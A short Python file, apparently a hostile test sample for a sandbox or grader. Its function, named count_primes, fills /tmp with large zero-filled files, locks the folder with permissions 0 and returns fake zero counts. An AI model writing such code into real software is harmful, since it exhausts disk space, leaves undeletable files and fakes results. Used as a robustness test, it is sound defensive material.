"""Fills /tmp in a folder that nobody may enter any more."""
import os


def count_primes(limits, processes=2):
    os.makedirs("/tmp/locked/inner")
    try:
        for number in range(10):
            with open(f"/tmp/locked/inner/{number}", "wb") as file:
                file.write(bytes(16 << 20))
    except OSError:
        pass
    os.chmod("/tmp/locked", 0)
    return [0 for _ in limits]
